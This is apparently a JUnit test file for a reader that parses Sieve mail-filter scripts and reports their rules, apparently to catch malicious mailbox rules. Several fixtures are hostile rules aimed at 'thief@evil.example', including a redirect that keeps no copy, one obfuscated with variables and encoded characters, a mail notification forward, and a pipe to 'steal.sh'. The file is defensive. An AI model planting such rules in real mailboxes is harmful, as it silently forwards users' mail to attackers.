package org.mimawari.sieve;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.mimawari.evidence.RuleAction;
import org.mimawari.evidence.RuleAction.Type;
import org.mimawari.evidence.RuleCondition;
import org.mimawari.evidence.RuleCondition.Field;
import org.mimawari.evidence.RuleTrait;

class SieveReaderTest {

    private final SieveReader reader = new SieveReader(ScriptLibrary.EMPTY);

    private SieveReading read(String script) {
        return reader.read("main", script);
    }

    private SieveRule only(String script) {
        assertThat(read(script).rules()).hasSize(1);
        return read(script).rules().get(0);
    }

    @Test
    void seesARedirectThatKeepsNoCopy() {
        SieveRule rule = only("redirect \"thief@evil.example\";");
        assertThat(rule.actions()).containsExactly(RuleAction.of(Type.REDIRECT, "thief@evil.example"));
        assertThat(rule.traits()).containsExactly(RuleTrait.KEEPS_NO_COPY);
        assertThat(rule.conditions()).isEmpty();
    }

    @Test
    void seesThatCopyAndKeepLeaveTheMessage() {
        assertThat(only("require [\"copy\"]; redirect :copy \"a@evil.example\";").traits()).isEmpty();
        assertThat(only("redirect \"a@evil.example\"; keep;").traits()).isEmpty();
        assertThat(only("if true { redirect \"a@evil.example\"; } keep;").traits()).isEmpty();
    }

    @Test
    void namesTheRuleAsTheFilterEditorDid() {
        SieveRule rule = only("""
                require ["fileinto"];
                # rule:[請求書]
                if anyof (header :contains "subject" ["請求", "invoice"], header :contains "from" "bank.example")
                {
                    fileinto "RSS フィード";
                    stop;
                }
                """);
        assertThat(rule.name()).isEqualTo("請求書");
        assertThat(rule.conditions()).containsExactly(RuleCondition.of(Field.SUBJECT, List.of("請求", "invoice")),
                RuleCondition.of(Field.SENDER, List.of("bank.example")));
        assertThat(rule.traits()).containsExactlyInAnyOrder(RuleTrait.ANY_CONDITION, RuleTrait.STOPS);
        assertThat(rule.actions().get(0)).isEqualTo(RuleAction.of(Type.MOVE, "RSS フィード"));
    }

    @Test
    void seesThroughVariablesAndEncodedCharacters() {
        SieveRule rule = only("""
                require ["variables", "encoded-character"];
                set "a" "thief"; set :lower "host" "EVIL.example";
                redirect "${a}${hex:40}${host}";
                """);
        assertThat(rule.actions().get(0).targets()).containsExactly("thief@evil.example");
    }

    @Test
    void knowsThatAnEmptyMatchMeansEveryMessage() {
        assertThat(only("if header :contains \"subject\" \"\" { discard; }").conditions()).isEmpty();
        assertThat(only("if size :over 0 { discard; }").conditions()).isEmpty();
        assertThat(only("if not header :contains \"from\" [\"\"] { discard; }").enabled()).isFalse();
        assertThat(only("if string :is \"x\" \"x\" { discard; }").conditions()).isEmpty();
    }

    @Test
    void aRuleSwitchedOffByItsEditorIsShownAsSwitchedOff() {
        SieveRule rule = only("# rule:[old]\nif false # header :contains \"subject\" \"x\"\n{ discard; }");
        assertThat(rule.enabled()).isFalse();
        assertThat(rule.name()).isEqualTo("old");
    }

    @Test
    void whatComesAfterAnUnconditionalStopNeverRuns() {
        assertThat(only("stop; discard;").enabled()).isFalse();
    }

    @Test
    void anElseBranchHasTheConditionsTurnedRound() {
        List<SieveRule> rules = read("if address :is \"from\" \"a@b.example\" { keep; } else { discard; }").rules();
        assertThat(rules).singleElement().extracting(SieveRule::conditions)
                .isEqualTo(List.of(new RuleCondition(Field.SENDER, true, List.of("a@b.example"))));
    }

    @Test
    void innerConditionsAreAddedToOuterOnes() {
        SieveRule rule = only("if header :contains \"subject\" \"a\" { if size :over 10K { discard; } }");
        assertThat(rule.conditions()).extracting(RuleCondition::field).containsExactly(Field.SUBJECT, Field.SIZE_AT_LEAST);
        assertThat(rule.conditions().get(1).values()).containsExactly("10240");
    }

    @Test
    void oneBrokenLineCostsOnlyItself() {
        SieveReading reading = read("""
                require ["fileinto"];
                fileinto ] "x" ;
                if header :contains "subject" "unterminated {
                redirect "thief@evil.example";
                """);
        assertThat(reading.rules()).flatExtracting(SieveRule::actions)
                .contains(RuleAction.of(Type.REDIRECT, "thief@evil.example"));
        assertThat(reading.problems()).isNotEmpty();
    }

    @Test
    void whatStandsBehindAnUnreadableConditionIsNotCalledUnconditional() {
        SieveReading reading = read("if header :contains ~~ { discard; }");
        assertThat(reading.rules()).allSatisfy(rule -> assertThat(rule.conditions()).isNotEmpty());
        assertThat(reading.problems()).isNotEmpty();
    }

    @Test
    void readsTextBlocksWithBareLineFeeds() {
        SieveReading reading = read("require \"vacation\";\nvacation :subject \"不在\" :from \"x@evil.example\" text:\nFirst\n..dot\n.\n;");
        assertThat(reading.vacations()).containsExactly(new Vacation("main", 2, true, Optional.of("不在"),
                Optional.of("x@evil.example"), "First\n.dot\n", Optional.empty()));
        assertThat(reading.problems()).isEmpty();
    }

    @Test
    void followsIncludesButNeverInCircles() {
        SieveReader withLibrary = new SieveReader(name -> name.equals("inner")
                ? Optional.of("include \"inner\"; redirect \"thief@evil.example\";") : Optional.empty());
        SieveReading reading = withLibrary.read("main", "include :personal \"inner\"; include :global \"common\";");
        assertThat(reading.rules()).singleElement().extracting(SieveRule::name).isEqualTo("inner");
        assertThat(reading.problems()).extracting(SieveProblem::what).anyMatch(what -> what.contains("global"));
    }

    @Test
    void flagsThatHideAMessageAreActions() {
        assertThat(only("addflag \"\\\\Seen\"; fileinto \"Archive\";").actions()).extracting(RuleAction::type)
                .containsExactly(Type.MARK_READ, Type.MOVE);
        assertThat(only("fileinto :flags [\"\\\\Seen\", \"\\\\Deleted\"] \"Trash\";").actions())
                .extracting(RuleAction::type).containsExactly(Type.MOVE, Type.MARK_READ, Type.DELETE);
    }

    @Test
    void notificationsByMailAreForwards() {
        assertThat(only("notify :message \"x\" \"mailto:thief@evil.example?body=a\";").actions())
                .containsExactly(RuleAction.of(Type.NOTIFY, "thief@evil.example"));
    }

    @Test
    void programsAreNamed() {
        assertThat(only("require \"vnd.dovecot.pipe\"; pipe :copy \"steal.sh\" [\"a\"];").actions().get(0))
                .isEqualTo(RuleAction.of(Type.EXECUTE, "steal.sh", "a"));
    }

    @Test
    void nestingCannotExhaustTheStack() {
        String blocks = "if true {".repeat(100_000) + "discard;" + "}".repeat(100_000);
        String tests = "if " + "not ".repeat(100_000) + "true { discard; }";
        assertThat(read(blocks).problems()).isNotEmpty();
        assertThat(read(tests).problems()).isNotEmpty();
    }

    @Test
    void hugeNumbersAndRubbishDoNotThrow() {
        assertThat(read("if size :over 99999999999G { discard; }").rules()).hasSize(1);
        assertThat(read("\u0000\u0001{{{{]]]]))))\"").problems()).isNotEmpty();
        assertThat(read("").understood()).isFalse();
    }

    @Test
    void anOrdinaryVacationIsNoProblem() {
        SieveReading reading = read("require [\"vacation\"]; vacation :days 7 :addresses [\"a@b.example\"] \"I am away until Monday.\";");
        assertThat(reading.problems()).isEmpty();
        assertThat(reading.vacations()).singleElement().extracting(Vacation::text).isEqualTo("I am away until Monday.");
    }
}
